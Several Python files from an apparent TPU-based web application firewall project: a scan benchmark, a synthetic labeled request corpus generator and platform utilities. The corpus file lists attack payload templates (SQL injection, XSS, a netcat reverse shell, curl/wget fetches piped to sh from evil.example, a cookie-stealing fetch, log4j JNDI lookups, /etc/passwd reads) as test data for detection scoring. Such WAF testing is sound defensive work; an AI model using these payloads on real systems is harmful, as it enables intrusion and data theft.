from ingress_plus_tpu.ops.scan import ScanTables, scan_bytes_jit


def best_time(call, k: int, n: int = 2) -> float:
    """Best-of-n wall time of ``call(k, rep)`` after warming its compile.

    The canonical tunnel-aware timing primitive (bench.py and every
    bench_* below share THIS copy).  ``rep`` increments per invocation so
    callers can bust the relay's repeated-dispatch cache with fresh PRNG
    keys; best-of because one jittery ~70ms RTT otherwise skews (or even
    negates) a K-difference built from single samples."""
    jax.block_until_ready(call(k, 0))  # warm the compile
    best = float("inf")
    for i in range(n):
        t0 = time.perf_counter()
        jax.block_until_ready(call(k, 1 + i))
        best = min(best, time.perf_counter() - t0)
    return best


def k_diff_time(call, k: int, n: int = 2) -> float:
    """Per-iteration K-difference (t(K=k) - t(K=1)) / (k-1), built on
    best_time.  May legitimately return <= 0 when RTT jitter swamps the
    compute delta — callers must treat that as NO SIGNAL (widen K or skip
    the report), never as a throughput."""
    return (best_time(call, k, n) - best_time(call, 1, n)) / (k - 1)


def bench_scan(tables: ScanTables, batch: int, length: int, gather: str,
               iters: int = 65, unroll: int = 16) -> float:
    """Returns MB/s, measured as the K-scan in-dispatch difference.

    The TPU here sits behind a network tunnel: per-dispatch wall time is
    dominated by ~70ms RTT with tens-of-ms variance, and repeated identical
    dispatches can be served from a relay cache — both make naive timing
    wildly wrong (we observed fake 38 GB/s).  So: run K chained scans
    inside ONE jit dispatch (tokens generated on-device, tiny scalar
    output) and report (t(K=iters) - t(K=1)) / (iters - 1).  iters must be
    large enough that the compute delta dwarfs RTT jitter."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.scan import scan_bytes

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch,), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = scan_bytes(tables, tokens, lengths, state=s, match=m,
                              unroll=unroll, gather=gather)
            return (s, m)

        s = jnp.zeros((batch, tables.n_words), jnp.uint32)
        s, m = jax.lax.fori_loop(0, k, body, (s, jnp.zeros_like(s)))
        return m[0, 0]

    per_scan = k_diff_time(
        lambda k, rep: scan_k(jax.random.PRNGKey(100 * k + rep), k), iters)
    return batch * length / per_scan / 1e6


def bench_pairs(tables: ScanTables, batch: int, length: int,
                iters: int = 65, unroll: int = 16) -> float:
    """MB/s for the class-pair-stride scan (ops/scan.py scan_pairs),
    K-diff timed like bench_scan."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.scan import scan_pairs

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch,), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = scan_pairs(tables, tokens, lengths, state=s, match=m,
                              unroll=unroll)
            return (s, m)

        s = jnp.zeros((batch, tables.n_words), jnp.uint32)
        m = jnp.zeros((batch, tables.n_words), jnp.uint32)
        s, m = jax.lax.fori_loop(0, k, body, (s, m))
        return m.sum()

    per = k_diff_time(
        lambda k, rep: scan_k(jax.random.PRNGKey(100 * k + rep), k), iters)
    return batch * length / per / 1e6


def bench_pallas(tables: ScanTables, batch: int, length: int,
                 iters: int = 65, TB: int = 8, CL: int = 128,
                 MR: int = 256) -> float:
    """MB/s for the Pallas kernel (ops/pallas_scan.py), K-diff timed the
    same way as bench_scan.  Table prep (padding, planes) happens once
    outside the timed region, as in serving."""
    import functools

    import jax.numpy as jnp

    from ingress_plus_tpu.ops.pallas_scan import PallasScanner, _pallas_scan

    # reuse the serving scanner's packing so the benchmark always measures
    # the shipped bit layout (prep is outside the timed region either way)
    sc = PallasScanner(tables, TB=TB, CL=CL, MR=MR)
    planes, init, final = sc.planes, sc.init, sc.final
    Wp, mr = sc.Wp, sc.MR

    @functools.partial(jax.jit, static_argnames=("k",))
    def scan_k(key, k):
        tokens = jax.random.randint(key, (batch, length), 32, 127,
                                    dtype=jnp.int32)
        lengths = jnp.full((batch, 1), length, dtype=jnp.int32)

        def body(i, carry):
            s, m = carry
            m, s = _pallas_scan(tokens, lengths, planes, init, final, s, m,
                                TB=TB, CL=CL, MR=mr, interpret=False)
            return (s, m)

        s = jnp.zeros((batch, Wp), jnp.int32)
        s, m = jax.lax.fori_loop(0, k, body, (s, jnp.zeros_like(s)))
        return m[0, 0]

    per_scan = k_diff_time(
        lambda k, rep: scan_k(jax.random.PRNGKey(100 * k + rep), k), iters)
    return batch * length / per_scan / 1e6


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--batch", type=int, default=256)
    ap.add_argument("--len", dest="length", type=int, default=1024)
    ap.add_argument("--iters", type=int, default=10)
    ap.add_argument("--only", default=None,
                    choices=[None, "take", "onehot", "pallas", "pair"])
    ap.add_argument("--tb", type=int, default=8)
    ap.add_argument("--cl", type=int, default=128)
    ap.add_argument("--platform", default=None, choices=[None, "cpu"],
                    help="force CPU in-process (JAX_PLATFORMS env alone "
                         "does not work on this machine — see "
                         "utils/platform.py)")
    args = ap.parse_args()

    if args.platform == "cpu":
        from ingress_plus_tpu.utils.platform import force_cpu_devices

        force_cpu_devices(1)

    cr = compile_ruleset(load_bundled_rules())
    tables = ScanTables.from_bitap(cr.tables)
    print("backend=%s  W=%d words  rules=%d" % (
        jax.default_backend(), tables.n_words, cr.n_rules))
    for gather in ("take", "onehot", "pallas", "pair"):
        if args.only and gather != args.only:
            continue
        for batch in (args.batch, args.batch * 4):
            try:
                if gather == "pallas":
                    mbs = bench_pallas(tables, batch, args.length,
                                       args.iters, TB=args.tb, CL=args.cl)
                elif gather == "pair":
                    mbs = bench_pairs(tables, batch, args.length,
                                      args.iters)
                else:
                    mbs = bench_scan(tables, batch, args.length, gather,
                                     args.iters)
                print("gather=%-7s batch=%-5d len=%-5d  %8.1f MB/s"
                      % (gather, batch, args.length, mbs))
            except Exception as e:  # keep sweeping on OOM etc.
                print("gather=%-7s batch=%-5d FAILED: %s"
                      % (gather, batch, str(e)[:120]))


if __name__ == "__main__":
    main()
