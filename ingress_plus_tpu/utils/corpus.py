"""Deterministic labeled request corpus — the replay-corpus analog.

Benchmark config #1 (BASELINE.md) replays a 10k-request CRS test corpus
through the WAF.  No such corpus ships with the reference (and the mount is
empty), so we generate one deterministically: realistic benign traffic
(browsing, APIs, forms, JSON bodies) mixed with attack requests built from
per-class payload templates.  Labels (is_attack, attack_class) make it
usable for both the F1 gate and throughput replay.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, List, Optional, Tuple

from ingress_plus_tpu.serve.normalize import Request

_BENIGN_PATHS = [
    "/", "/index.html", "/products", "/products/%d", "/cart", "/checkout",
    "/api/v1/users/%d", "/api/v1/orders", "/search", "/static/app.js",
    "/static/style.css", "/images/logo.png", "/blog/2026/07/tpu-waf",
    "/docs/getting-started", "/health", "/login", "/logout", "/profile",
    "/settings/notifications", "/admin/dashboard",
]
_BENIGN_PARAMS = [
    ("q", ["shoes", "red dress", "laptop 15 inch", "coffee beans", "o'brien",
           "rock and roll", "cats", "select committee report", "union jobs"]),
    ("page", ["1", "2", "10", "42"]),
    ("sort", ["price", "date", "-rating", "name_asc"]),
    ("category", ["electronics", "books", "home-garden", "catering"]),
    ("lang", ["en", "de", "fr", "ja"]),
    ("utm_source", ["newsletter", "google", "twitter"]),
    ("id", ["12345", "00001", "998877"]),
    ("filter", ["in_stock", "on_sale", "new and featured"]),
]
_BENIGN_BODIES = [
    b'{"name": "Alice", "email": "alice@example.com", "age": 34}',
    b'{"items": [{"sku": "A-1", "qty": 2}, {"sku": "B-9", "qty": 1}]}',
    b"comment=Great+product%21+Works+as+described.&rating=5",
    b'{"query": "order history", "from": "2026-01-01", "to": "2026-07-29"}',
    b"username=jdoe&password=hunter2&remember=on",
    b'{"text": "I like cats and dogs", "tags": ["pets", "photos"]}',
]
_BENIGN_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) Gecko/20100101 Firefox/128.0",
    "curl/8.5.0", "python-requests/2.32.0", "okhttp/4.12",
]

# (class, payload templates) — used in args or body
_ATTACKS: List[Tuple[str, List[str]]] = [
    ("sqli", [
        "1' UNION SELECT username, password FROM users--",
        "1 OR 1=1",
        "' OR 'a'='a",
        "1; DROP TABLE orders;--",
        "1' AND SLEEP(5)--",
        "id=1 UNION ALL SELECT NULL,version(),NULL--",
        "x' AND extractvalue(1,concat(0x7e,database()))--",
        "1%27%20UNION%20SELECT%20card_no%20FROM%20payments--",
        "1' or '1'='1' /*",
        "admin'--",
    ]),
    ("xss", [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert`1`>",
        "javascript:alert(1)",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "<body onload=fetch('//evil/c?'+document.cookie)>",
        "<a href=\"jav&#x61;script:alert(1)\">x</a>",
        "\"><script src=//evil.example/x.js></script>",
    ]),
    ("rce", [
        "; cat /etc/passwd",
        "| id",
        "`wget http://evil.example/sh -O /tmp/x`",
        "$(curl http://evil.example/x.sh | sh)",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "() { :; }; /bin/bash -c 'id'",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "; powershell -enc SQBFAFgA",
    ]),
    ("lfi", [
        "../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "/proc/self/environ",
        "php://filter/convert.base64-encode/resource=index.php",
        "....//....//etc/passwd",
        "/var/www/../../etc/passwd",
        "file=../../wp-config.php",
        "C:\\windows\\win.ini",
    ]),
    ("rfi", [
        "http://169.254.169.254/latest/meta-data/",
        "http://127.0.0.1:8080/admin",
        "https://evil.example/shell.php?",
        "gopher://10.0.0.5:6379/_FLUSHALL",
    ]),
    ("php", [
        "<?php system($_GET['c']); ?>",
        "eval(base64_decode($_POST['x']))",
        "O:8:\"stdClass\":1:{s:4:\"pipe\";s:2:\"id\";}",
        "call_user_func('system','id')",
    ]),
    ("java", [
        "${jndi:ldap://evil.example/Exploit}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
        "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
    ]),
    # args/body placements only (see _attack): the 921/934 rules target
    # ARGS|REQUEST_BODY — a smuggling line in the PATH or a CRLF blob in
    # a header would be a mislabeled example nothing is meant to catch
    ("protocol", [
        "%0d%0aSet-Cookie: sess=evil",
        "%0D%0ALocation: https://evil.example/",
        "GET /internal/admin HTTP/1.1",
        "0%0d%0a%0d%0aGET /admin HTTP/1.1",
        "%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK",
    ]),
    ("nodejs", [
        "require('child_process').exec('id')",
        "process.mainModule.constructor._load('child_process')",
        "__proto__[isAdmin]=true",
        "constructor.prototype.polluted=1",
        "new Function('return process.env')()",
    ]),
]


@dataclass
class LabeledRequest:
    request: Request
    is_attack: bool
    attack_class: str = ""


def _benign(rng: random.Random, i: int) -> Request:
    path = rng.choice(_BENIGN_PATHS)
    if "%d" in path:
        path = path % rng.randrange(1, 99999)
    params = rng.sample(_BENIGN_PARAMS, k=rng.randrange(0, 4))
    if params:
        qs = "&".join(
            "%s=%s" % (k, rng.choice(vs).replace(" ", "+")) for k, vs in params)
        path = path + "?" + qs
    method = "GET"
    body = b""
    headers = {
        "host": "shop.example.com",
        "user-agent": rng.choice(_BENIGN_AGENTS),
        "accept": "*/*",
    }
    if rng.random() < 0.25:
        method = "POST"
        body = rng.choice(_BENIGN_BODIES)
        # real clients always frame the body (920180/920340 model the
        # protocol violation; a synthetic corpus must not commit it)
        headers["content-length"] = str(len(body))
        headers["content-type"] = (
            "application/json" if body[:1] in (b"{", b"[")
            else "application/x-www-form-urlencoded")
    if rng.random() < 0.3:
        headers["cookie"] = "session=%032x" % rng.getrandbits(128)
    return Request(method=method, uri=path, headers=headers, body=body,
                   request_id="benign-%d" % i)


#: payload mutation hook (utils/evasion.py mutation harness): called as
#: ``mutate(payload, attack_class, carrier)`` AFTER the carrier slot is
#: drawn and BEFORE placement, where carrier ∈ {"query", "body", "path",
#: "header"}.  The hook must not touch the shared rng — every rng draw
#: happens before it runs, so a mutated corpus keeps the golden corpus'
#: exact placements (same requests, only the payload bytes differ).
PayloadMutator = Callable[[str, str, str], str]


def _attack(rng: random.Random, i: int,
            mutate: Optional[PayloadMutator] = None) -> LabeledRequest:
    cls, payloads = _ATTACKS[rng.randrange(len(_ATTACKS))]
    payload = rng.choice(payloads)
    slot = rng.random()
    if cls == "rfi" and slot >= 0.9:
        # a bare URL in a header is not an RFI vector (nothing include()s a
        # header); keep RFI payloads in parameters/body/path where they attack
        slot = rng.random() * 0.9
    elif cls in ("protocol", "nodejs"):
        # these families' rules target ARGS|REQUEST_BODY (see the
        # _ATTACKS comment): keep their payloads in query/body slots
        slot = rng.random() * 0.8
    headers = {"host": "shop.example.com",
               "user-agent": rng.choice(_BENIGN_AGENTS)}
    carrier = ("query" if slot < 0.5 else "body" if slot < 0.8
               else "path" if slot < 0.9 else "header")
    if mutate is not None:
        payload = mutate(payload, cls, carrier)
    method, uri, body = "GET", "/", b""
    if carrier == "query":
        uri = "/search?q=" + payload.replace(" ", "+")
    elif carrier == "body":
        method = "POST"
        uri = "/api/v1/comments"
        body = ("comment=" + payload).encode("utf-8", "surrogateescape")
        headers["content-length"] = str(len(body))
        headers["content-type"] = "application/x-www-form-urlencoded"
    elif carrier == "path":
        uri = "/files/" + payload
    else:  # header
        headers["user-agent"] = payload
        uri = "/index.html"
    return LabeledRequest(
        request=Request(method=method, uri=uri, headers=headers, body=body,
                        request_id="attack-%s-%d" % (cls, i)),
        is_attack=True, attack_class=cls)


def generate_corpus(
    n: int = 10_000,
    attack_fraction: float = 0.2,
    seed: int = 20260729,
    tenants: int = 1,
    payload_mutator: Optional[PayloadMutator] = None,
) -> List[LabeledRequest]:
    """Deterministic labeled corpus; ``tenants`` spreads requests across
    tenant ids for the EP/multi-tenant configs.  ``payload_mutator``
    rewrites attack payloads in place (see :data:`PayloadMutator`) —
    the evasion-mutation harness replays the SAME corpus with only the
    payload bytes re-encoded."""
    rng = random.Random(seed)
    out: List[LabeledRequest] = []
    for i in range(n):
        if rng.random() < attack_fraction:
            lr = _attack(rng, i, mutate=payload_mutator)
        else:
            lr = LabeledRequest(request=_benign(rng, i), is_attack=False)
        lr.request.tenant = rng.randrange(tenants) if tenants > 1 else 0
        out.append(lr)
    return out


def f1_score(tp: int, fp: int, fn: int) -> float:
    if tp == 0:
        return 0.0
    precision = tp / (tp + fp)
    recall = tp / (tp + fn)
    return 2 * precision * recall / (precision + recall)
