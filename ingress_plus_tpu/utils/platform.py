"""In-process platform forcing for virtual-device CPU runs.

The canonical copy of the recipe that tests/conftest.py, dryrun_multichip
and bench fallbacks all need (it was hand-rolled in three places in round
1 and the un-shared copy missed the fix that mattered — MULTICHIP_r01).

Why env vars alone fail on this machine: ``sitecustomize.py`` imports jax
at interpreter startup (registering the remote-TPU 'axon' plugin), so
``JAX_PLATFORMS`` is read long before user code runs.  Backends
initialize lazily though, so rewriting ``XLA_FLAGS`` and updating
``jax.config`` before the first backend touch still wins.
"""

from __future__ import annotations

import os
import re

_COUNT_FLAG = "--xla_force_host_platform_device_count"


def force_cpu_devices(n_devices: int = 8) -> None:
    """Force the CPU platform with ``n_devices`` virtual devices.

    Must be called before any jax backend touch (jax.devices, device_put,
    jit dispatch...).  Rewrites an existing device-count flag rather than
    keeping a stale value, so a wrapper-exported XLA_FLAGS with a
    different count can't silently win.
    """
    flags = os.environ.get("XLA_FLAGS", "")
    want = "%s=%d" % (_COUNT_FLAG, n_devices)
    if _COUNT_FLAG in flags:
        flags = re.sub(re.escape(_COUNT_FLAG) + r"=\d+", want, flags)
    else:
        flags = (flags + " " + want).strip()
    os.environ["XLA_FLAGS"] = flags

    import jax

    jax.config.update("jax_platforms", "cpu")


def assert_cpu_devices(n_devices: int) -> None:
    """Fail loudly (instead of mysteriously later) if the virtual mesh
    didn't materialize — e.g. a backend was already initialized with
    different flags before force_cpu_devices ran."""
    import jax

    devs = jax.devices()
    if len(devs) != n_devices or devs[0].platform != "cpu":
        raise RuntimeError(
            "expected %d virtual CPU devices, got %d x %s. A backend was"
            " initialized before force_cpu_devices(); rerun in a fresh"
            " process." % (n_devices, len(devs),
                           devs[0].platform if devs else "none"))
