"""In-process platform forcing for virtual-device CPU runs.

The canonical copy of the recipe that tests/conftest.py, dryrun_multichip
and bench fallbacks all need (it was hand-rolled in three places in round
1 and the un-shared copy missed the fix that mattered — MULTICHIP_r01).

Why env vars alone fail on this machine: ``sitecustomize.py`` imports jax
at interpreter startup (registering the remote-TPU 'axon' plugin), so
``JAX_PLATFORMS`` is read long before user code runs.  Backends
initialize lazily though, so rewriting ``XLA_FLAGS`` and updating
``jax.config`` before the first backend touch still wins.
"""

from __future__ import annotations

import os
import re
from typing import Optional

_COUNT_FLAG = "--xla_force_host_platform_device_count"


def force_cpu_devices(n_devices: int = 8) -> None:
    """Force the CPU platform with ``n_devices`` virtual devices.

    Must be called before any jax backend touch (jax.devices, device_put,
    jit dispatch...).  Rewrites an existing device-count flag rather than
    keeping a stale value, so a wrapper-exported XLA_FLAGS with a
    different count can't silently win.
    """
    flags = os.environ.get("XLA_FLAGS", "")
    want = "%s=%d" % (_COUNT_FLAG, n_devices)
    if _COUNT_FLAG in flags:
        flags = re.sub(re.escape(_COUNT_FLAG) + r"=\d+", want, flags)
    else:
        flags = (flags + " " + want).strip()
    os.environ["XLA_FLAGS"] = flags

    import jax

    jax.config.update("jax_platforms", "cpu")


#: process-level cache of a SUCCESSFUL probe verdict (platform string).
#: A live backend stays live for the process's purposes; re-probing it
#: costs a subprocess + full jax import (~5-20s) per call site.
#: Failures are NOT cached here — retry ladders (bench.probe_backend)
#: must see fresh attempts; they cache their own final verdict.
_PROBE_OK: Optional[str] = None

#: detail of the LAST completed probe attempt (success or failure):
#: {platform, device_count, probe_s, error} — the bench artifact header
#: embeds this so a silently-CPU run is labeled loudly at the TOP of
#: the json instead of discovered by reading `platform: cpu` at the
#: bottom (ISSUE 13 satellite)
LAST_PROBE: dict = {}


def probe_backend_once(timeout: int = 60, use_cache: bool = True):
    """``jax.devices()`` in a THROWAWAY SUBPROCESS under a hard timeout.

    Returns ``(platform, None)`` on success or ``(None, error_string)``.
    The ONE subprocess-probe primitive (bench.py's retry ladder and
    __graft_entry__'s single-shot guard both build on this — the recipe
    was hand-rolled per call site in earlier rounds and the un-shared
    copies diverged; see the module docstring's round-1 postmortem).

    Why a subprocess: the remote-TPU 'axon' backend has two observed
    failure modes — fail fast at first dispatch, and hang indefinitely
    during client init — and an in-process try cannot recover from the
    hang.  Setting ``JAX_PLATFORMS=cpu`` in the ENV does not avoid it
    either: backend discovery still initializes the registered plugin
    (observed r04); only the in-process config override does.
    """
    import subprocess
    import sys
    import time

    global _PROBE_OK
    if use_cache and _PROBE_OK is not None:
        return _PROBE_OK, None
    t0 = time.time()
    try:
        p = subprocess.run(
            [sys.executable, "-c",
             "import jax; d = jax.devices(); "
             "print('PLATFORM=%s NDEV=%d' % (d[0].platform, len(d)))"],
            capture_output=True, text=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        err = "backend init hung >%ds" % timeout
        LAST_PROBE.update(platform=None, device_count=None,
                          probe_s=round(time.time() - t0, 1), error=err)
        return None, err
    out = [l for l in p.stdout.strip().splitlines()
           if l.startswith("PLATFORM=")]
    if p.returncode == 0 and out:
        fields = dict(f.split("=", 1) for f in out[-1].split())
        _PROBE_OK = fields["PLATFORM"]
        LAST_PROBE.update(platform=_PROBE_OK,
                          device_count=int(fields.get("NDEV", 1)),
                          probe_s=round(time.time() - t0, 1), error=None)
        return _PROBE_OK, None
    err = (p.stderr.strip().splitlines() or ["rc=%d" % p.returncode])[-1]
    LAST_PROBE.update(platform=None, device_count=None,
                      probe_s=round(time.time() - t0, 1), error=err[:300])
    return None, err[:300]


def ensure_live_backend(timeout: int = 60,
                        fallback_devices: Optional[int] = None) -> None:
    """Guard the first in-process backend touch: probe the default
    backend via :func:`probe_backend_once` and force CPU if it is
    down/hung.  No-op (no subprocess spawned) when this process is
    already pinned to CPU.

    ``fallback_devices``: virtual CPU device count to pin on fallback.
    Defaults to an ``--xla_force_host_platform_device_count`` already in
    ``XLA_FLAGS`` (a driver-set count must survive — forcing 1 here
    would poison a later same-process ``dryrun_multichip(n)``), else 8,
    which keeps every later ``force_cpu_devices(n <= 8)``-sized mesh
    buildable in this process.
    """
    import sys

    import jax

    if jax.config.jax_platforms == "cpu":
        return  # already pinned in-process — nothing to probe
    plat, err = probe_backend_once(timeout)
    if plat is not None:
        return  # live backend — leave it alone
    if fallback_devices is None:
        m = re.search(re.escape(_COUNT_FLAG) + r"=(\d+)",
                      os.environ.get("XLA_FLAGS", ""))
        fallback_devices = int(m.group(1)) if m else 8
    print("[platform] default backend unavailable (%s); forcing %d "
          "virtual CPU device(s)" % (err, fallback_devices),
          file=sys.stderr)
    force_cpu_devices(fallback_devices)


def assert_cpu_devices(n_devices: int) -> None:
    """Fail loudly (instead of mysteriously later) if the virtual mesh
    didn't materialize — e.g. a backend was already initialized with
    different flags before force_cpu_devices ran."""
    import jax

    devs = jax.devices()
    if len(devs) != n_devices or devs[0].platform != "cpu":
        raise RuntimeError(
            "expected %d virtual CPU devices, got %d x %s. A backend was"
            " initialized before force_cpu_devices(); rerun in a fresh"
            " process." % (n_devices, len(devs),
                           devs[0].platform if devs else "none"))
